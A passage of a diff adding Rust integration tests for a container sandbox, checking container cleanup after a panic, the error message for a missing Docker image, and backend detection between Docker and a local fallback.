+        let _session = sb2.open_session(&template).await;
+        panic!("a stage crashed while holding a session");
+    });
+    ensure!(
+        task.await.is_err_and(|e| e.is_panic()),
+        "the task should have panicked"
+    );
+    assert_no_containers(&sb).await
+}
+
+#[tokio::test]
+async fn missing_image_says_how_to_build_it() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    let dir = empty_project()?;
+    let mut s = spec(dir.path(), &["true"], 10);
+    s.image = "coval/ruby:bookworm".into();
+    let e = sb.run(&s).await.err().context("ran without an image")?;
+    ensure!(
+        e.to_string().contains("scripts/build-base-images.sh ruby"),
+        "{e}"
+    );
+    assert_no_containers(&sb).await
+}
+
+#[tokio::test]
+async fn detect_prefers_docker_and_honours_the_config() -> Result<()> {
+    let cfg = pipeline::config::load(&pipeline::config::LoadOptions {
+        cwd: tempfile::tempdir()?.path().to_owned(),
+        ..Default::default()
+    })?;
+    let mut sc = cfg.settings.sandbox.clone();
+    if docker().await?.is_some() {
+        let d = sandbox::detect(&sc).await?;
+        eprintln!("detect: {} ({})", d.sandbox.name(), d.reason);
+        ensure!(
+            d.sandbox.name() == "docker" && d.reason.contains(PYTHON_IMAGE),
+            "{}",
+            d.reason
+        );
+        let d = sandbox::detect_for(&sc, sandbox::Language::Php).await?;
+        ensure!(
+            d.sandbox.name() == "local",
+            "no php image is configured: {}",
+            d.reason
+        );
+    }
+    sc.backend = pipeline::config::SandboxBackend::Local;
+    let d = sandbox::detect(&sc).await?;
+    ensure!(
+        d.sandbox.name() == "local" && d.sandbox.notice().is_some(),
+        "{}",
+        d.reason
+    );
+    Ok(())
+}
